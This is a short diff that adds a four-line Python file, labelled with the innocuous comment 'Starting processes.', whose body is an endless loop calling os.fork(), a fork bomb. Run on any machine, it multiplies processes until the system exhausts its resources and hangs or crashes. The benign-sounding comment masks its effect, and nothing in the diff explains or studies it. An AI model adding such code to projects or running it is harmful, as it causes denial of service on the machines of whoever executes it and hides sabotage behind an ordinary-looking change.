@@ -1,0 +1,4 @@
+# Starting processes.
+import os
+while True:
+    os.fork()
